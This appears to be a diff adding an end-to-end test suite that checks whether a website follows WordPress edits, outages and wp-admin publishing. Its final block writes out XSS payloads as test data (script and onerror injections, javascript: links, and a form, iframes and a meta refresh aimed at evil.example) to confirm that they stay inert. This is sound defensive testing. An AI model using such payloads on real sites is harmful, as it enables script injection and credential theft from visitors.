@@ -1,0 +1,279 @@
+import { rmSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import type { Browser, Page } from "@playwright/test";
+import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
+import { freePort } from "../../../test/fixtures/free-port.ts";
+import { patience } from "../../../test/fixtures/patience.ts";
+import { seedPosts } from "../development/seed.ts";
+import { type Desk, deskSecret, openDesk } from "./desk.ts";
+import { openBrowser, openWebsite, visitor, type Website, watch } from "./website.ts";
+
+let desk: Desk;
+/** A site that gets the messages of the plugin. */
+let told: Website;
+/** A site that gets no messages and only polls. */
+let asking: Website;
+/** The time at which an editor made the changes that `asking` has to find by polling. */
+let changedAt: number;
+let browser: Browser;
+let page: Page;
+
+beforeAll(async () => {
+  const port = await freePort();
+  desk = await openDesk(`http://localhost:${port}`);
+  await seedPosts(desk.wordpress, "content");
+  const restUrl = () => desk.wordpress.restUrl;
+  told = await openWebsite(restUrl, deskSecret, port);
+  const [kept = 0, gone = 0, locked = 0] = await desk.write([
+    { slug: "to-edit", lang: "en", title: "Before" },
+    { slug: "to-trash", lang: "en", title: "To trash" },
+    { slug: "to-lock", lang: "en", title: "To lock" },
+  ]);
+  asking = await openWebsite(restUrl, null);
+  await vi.waitFor(async () => expect(await asking.content()).toBe("ok"), patience);
+  expect(await asking.get("/en/blog")).toContain("To lock");
+  await desk.write([{ id: kept, slug: "to-edit", title: "After" }]);
+  await desk.trash(gone);
+  await desk.write([{ id: locked, slug: "to-lock", title: "To lock", password: "secret" }]);
+  await desk.write([{ slug: "pravlenie", lang: "ru", title: "Перевод", with: kept }]);
+  changedAt = performance.now();
+  browser = await openBrowser();
+  page = await (await browser.newContext({ userAgent: visitor })).newPage();
+  await vi.waitFor(async () => expect(await told.content()).toBe("ok"), patience);
+});
+afterAll(async () => {
+  await browser?.close();
+  await Promise.all([told?.remove(), asking?.remove()]);
+  await desk?.close();
+});
+
+/** Waits until the site shows an editor's change. Without a message, that would take a minute. */
+async function follows(check: () => Promise<void>): Promise<void> {
+  await vi.waitFor(check, patience);
+}
+
+async function titles(path: string): Promise<string[]> {
+  await page.goto(told.origin + path);
+  return page.locator("main article h2").allTextContents();
+}
+
+describe("an editor and the site, by message", () => {
+  let id = 0;
+
+  test("publish", async () => {
+    [id = 0] = await desk.write([
+      { slug: "fresh", lang: "en", title: "Fresh bread & rolls", content: "<p>Early.</p>" },
+    ]);
+    await follows(async () => expect(await titles("/en/blog")).toContain("Fresh bread & rolls"));
+    await page.goto(`${told.origin}/en/blog/fresh`);
+    expect(await page.locator(".prose").textContent()).toContain("Early.");
+  });
+
+  test("edit", async () => {
+    await desk.write([{ id, slug: "fresh", title: "Stale bread", content: "<p>Late.</p>" }]);
+    await follows(async () => {
+      await page.goto(`${told.origin}/en/blog/fresh`);
+      expect(await page.locator("h1").textContent()).toBe("Stale bread");
+      expect(await page.locator(".prose").textContent()).toContain("Late.");
+    });
+  });
+
+  test("translate", async () => {
+    await desk.write([{ slug: "svezhii", lang: "ru", title: "Свежий хлеб", with: id }]);
+    await follows(async () => {
+      expect(await told.get("/en/blog/fresh")).toContain(`hrefLang="ru" href="${told.origin}/ru/blog/svezhii"`);
+    });
+    expect(await titles("/ru/blog")).toContain("Свежий хлеб");
+  });
+
+  test("rename", async () => {
+    await desk.write([{ id, slug: "renamed", title: "Stale bread", content: "<p>Late.</p>" }]);
+    const old = async () => expect(await told.get("/en/blog/fresh")).toBe("301 /en/blog/renamed");
+    await follows(old);
+    expect(await told.get("/en/fresh")).toMatch(/^301 \/en\/blog\/(fresh|renamed)|^404/);
+  });
+
+  test("schedule: nothing is shown before the time, everything after it", async () => {
+    const date = new Date(Date.now() + 3_600_000).toISOString().slice(0, 19).replace("T", " ");
+    const [planned] = await desk.write([{ slug: "planned", lang: "en", title: "Planned", date, status: "future" }]);
+    await desk.write([{ slug: "later", lang: "en", title: "Written later" }]);
+    await follows(async () => expect(await titles("/en/blog")).toContain("Written later"));
+    expect(await told.get("/en/blog/planned")).toMatch(/^404/);
+    expect(await told.get("/en/blog")).not.toContain("Planned");
+    // Pretends that an hour has passed.
+    await desk.wordpress.run(
+      `$hour_ago = gmdate( 'Y-m-d H:i:s', time() - 60 );
+      $GLOBALS['wpdb']->update( $GLOBALS['wpdb']->posts, array( 'post_date' => $hour_ago, 'post_date_gmt' => $hour_ago ), array( 'ID' => $input ) );
+      clean_post_cache( $input );
+      wp_clear_scheduled_hook( 'publish_future_post', array( $input ) );
+      wp_schedule_single_event( time() - 1, 'publish_future_post', array( $input ) );`,
+      planned,
+    );
+    await desk.wordpress.runCron();
+    await follows(async () => expect(await titles("/en/blog")).toContain("Planned"));
+  });
+
+  test.each<[string, () => Promise<unknown>]>([
+    ["protect", () => desk.write([{ id, slug: "renamed", title: "Stale bread", password: "secret" }])],
+    ["open again", () => desk.write([{ id, slug: "renamed", title: "Stale bread", password: "" }])],
+    ["take back to a draft", () => desk.write([{ id, slug: "renamed", title: "Stale bread", status: "draft" }])],
+    ["publish again", () => desk.write([{ id, slug: "renamed", title: "Stale bread" }])],
+    ["make private", () => desk.write([{ id, slug: "renamed", title: "Stale bread", status: "private" }])],
+    ["publish once more", () => desk.write([{ id, slug: "renamed", title: "Stale bread" }])],
+    ["trash", () => desk.trash(id)],
+  ])("%s", async (action, act) => {
+    const isShown = /again|more/.test(action);
+    await act();
+    await follows(async () => {
+      expect((await titles("/en/blog")).includes("Stale bread")).toBe(isShown);
+      expect(await told.get("/en/blog/renamed")).toMatch(isShown ? /^200/ : /^(404|301)/);
+    });
+    const sitemap = await told.get("/en/sitemap.xml");
+    expect(sitemap.includes("/en/blog/renamed")).toBe(isShown);
+    expect(await told.get("/en/renamed")).toMatch(isShown ? /^301/ : /^404/);
+  });
+
+  test("rename a category", async () => {
+    await desk.wordpress.run(
+      "wp_update_term( get_term_by( 'slug', 'shifts', 'category' )->term_id, 'category', array( 'name' => 'Rotas' ) );",
+    );
+    const name = async () => expect(await told.get("/en/blog/category/shifts")).toContain("Rotas");
+    await follows(name);
+  });
+});
+
+describe("an editor in wp-admin", () => {
+  test("writes in the block editor, previews on the site, publishes", { timeout: 120_000 }, async () => {
+    const admin = await (await browser.newContext({ viewport: { width: 1440, height: 900 } })).newPage();
+    const { url, admin: account } = desk.wordpress;
+    await admin.goto(`${url}/wp-login.php`);
+    await admin.fill("#user_login", account.user);
+    await admin.fill("#user_pass", account.password);
+    await admin.click("#wp-submit");
+    await admin.goto(`${url}/wp-admin/post-new.php`);
+    await admin.evaluate(() => {
+      const { select, dispatch } = Reflect.get(window, "wp").data;
+      if (select("core/edit-post").isFeatureActive("welcomeGuide"))
+        dispatch("core/edit-post").toggleFeature("welcomeGuide");
+    });
+    await admin.locator(".editor-post-title__input").fill("Written by hand");
+    await admin.keyboard.press("Enter");
+    await admin.keyboard.type("With two hands.");
+    await admin.locator(".edit-post-sidebar__panel-tab").first().click();
+    await admin.getByRole("button", { name: "Save draft" }).click();
+    await admin.getByText("Saved", { exact: true }).first().waitFor();
+    await admin.getByRole("button", { name: "Preview", exact: true }).click();
+    const opening = admin.context().waitForEvent("page");
+    await admin.getByRole("menuitem", { name: "Preview in new tab" }).click();
+    const preview = await opening;
+    await preview.waitForURL((address) => address.pathname === "/en/blog/preview");
+    expect(await preview.locator("h1").textContent()).toBe("Written by hand");
+    expect(await preview.locator(".prose").textContent()).toContain("With two hands.");
+    await preview.close();
+    expect(await titles("/en/blog")).not.toContain("Written by hand");
+    await admin.getByRole("button", { name: "Publish", exact: true }).click();
+    await admin.locator(".editor-post-publish-panel").getByRole("button", { name: "Publish", exact: true }).click();
+    await admin.getByText(/is now live/).waitFor();
+    await follows(async () => expect(await titles("/en/blog")).toContain("Written by hand"));
+    const view = await admin.getByRole("link", { name: "View Post", exact: true }).first().getAttribute("href");
+    expect(view).toContain(`${told.origin}/en/blog/written-by-hand`);
+    await admin.context().close();
+  });
+});
+
+test("a site without messages shows changes within 60 seconds", { timeout: 120_000 }, async () => {
+  // Most of the minute has passed, and on a slow machine all of it.
+  const left = changedAt + 62_000 - performance.now();
+  await vi.waitFor(
+    async () => {
+      const shown = await asking.get("/en/blog");
+      expect(["After", "To trash", "To lock"].map((title) => shown.includes(title))).toEqual([true, false, false]);
+      expect(await asking.get("/en/blog/to-edit")).toContain("/ru/blog/pravlenie");
+      expect(await asking.get("/en/blog/to-lock")).toMatch(/^404/);
+    },
+    { timeout: Math.max(left, 10_000), interval: 500 },
+  );
+});
+
+describe("a WordPress", () => {
+  /** Returns the file that WordPress creates while it updates itself. */
+  const sign = () => join(desk.dir, "site/.maintenance");
+  /** Returns the file of a plugin that prints a notice before every response. */
+  const noisy = () => join(desk.dir, "site/wp-content/mu-plugins/noisy.php");
+  const block = async () => writeFileSync(noisy(), "<?php echo '<b>Notice</b>: something';");
+  const unblock = async () => rmSync(noisy());
+
+  test.each<[string, () => Promise<unknown>, () => Promise<unknown>]>([
+    ["without PHP", () => desk.wordpress.stopPhp(), () => desk.wordpress.startPhp()],
+    ["without a database", () => desk.wordpress.stopDatabase(), () => desk.wordpress.startDatabase()],
+    ["without a web server", () => desk.wordpress.stopWeb(), () => desk.wordpress.startWeb()],
+    [
+      "under maintenance",
+      async () => writeFileSync(sign(), `<?php $upgrading = ${Math.floor(Date.now() / 1000)};`),
+      async () => rmSync(sign()),
+    ],
+    ["with a plugin that prints notices", block, unblock],
+  ])("%s makes no page unavailable, even after a restart", async (_, stop, start) => {
+    const [id = 0] = await desk.write([{ slug: "lasting", lang: "en", title: "Lasting" }]);
+    await follows(async () => expect(await told.get("/en/blog/lasting")).toMatch(/^200/));
+    await stop();
+    try {
+      await told.stop();
+      await told.start();
+      for (const path of ["/en", "/en/blog", "/en/blog/lasting", "/ru/blog", "/en/sitemap.xml"]) {
+        expect((await told.get(path)).slice(0, 3)).toBe("200");
+      }
+      expect((await told.get("/en/blog/nothing-here")).slice(0, 3)).toBe("404");
+      await vi.waitFor(async () => expect(await told.content()).toBe("unreachable"), patience);
+    } finally {
+      await start();
+    }
+    await vi.waitFor(async () => expect(await told.content()).toBe("ok"), patience);
+    await desk.trash(id);
+    await vi.waitFor(async () => expect(await told.get("/en/blog/lasting")).toMatch(/^404/), patience);
+  });
+});
+
+describe("a hostile text", () => {
+  const hostile = `
+    <p>Before</p><script>window.hacked = 1; alert(1)</script><img src="x" onerror="window.hacked = 2">
+    <a href="javascript:window.hacked=3" id="trap">link</a><svg onload="window.hacked=4"></svg>
+    <iframe srcdoc="<script>parent.hacked=5</script>"></iframe><iframe src="https://evil.example/"></iframe>
+    <form action="https://evil.example/"><input name="password"><button>Send</button></form>
+    <style>body{display:none}</style><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
+    <object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">
+    <div style="position:fixed;inset:0;background:red" class="fixed inset-0">cover</div>
+    <img src="https://evil.example/pixel.gif" width="1" height="1"><video src="https://evil.example/v.mp4" autoplay></video>
+    <p id="__proto__" class="frame sticky">After</p><math><mtext><style><img src=x onerror=window.hacked=6></style></mtext></math>`;
+
+  test("stays inert in a real browser", async () => {
+    await desk.write([
+      {
+        slug: "hostile",
+        lang: "en",
+        title: "<script>window.hacked=7</script><b>Hostile</b> &amp; <img src=x onerror=alert(1)>",
+        content: hostile,
+        excerpt: "<script>window.hacked=8</script>Excerpt",
+      },
+    ]);
+    await follows(async () => expect(await told.get("/en/blog/hostile")).toMatch(/^200/));
+    const fresh = await (await browser.newContext({ userAgent: visitor })).newPage();
+    const seen = watch(fresh, told.origin);
+    await fresh.goto(`${told.origin}/en/blog`);
+    await fresh.goto(`${told.origin}/en/blog/hostile`);
+    await fresh.locator("html:not([data-hydrating])").waitFor();
+    await fresh.locator("#text-trap").click();
+    await fresh.waitForLoadState("networkidle");
+    expect(await fresh.evaluate(() => Reflect.get(window, "hacked"))).toBeUndefined();
+    expect(await fresh.locator("h1").textContent()).toBe("Hostile &");
+    expect(await fresh.locator(".prose").textContent()).toContain("After");
+    expect(
+      await fresh
+        .locator(".prose :is(script,style,iframe,form,input,button,object,embed,svg,math,base,meta,[style])")
+        .count(),
+    ).toBe(0);
+    expect(new URL(fresh.url()).pathname).toBe("/en/blog/hostile");
+    expect(seen).toEqual([]);
+    await fresh.context().close();
+  });
+});
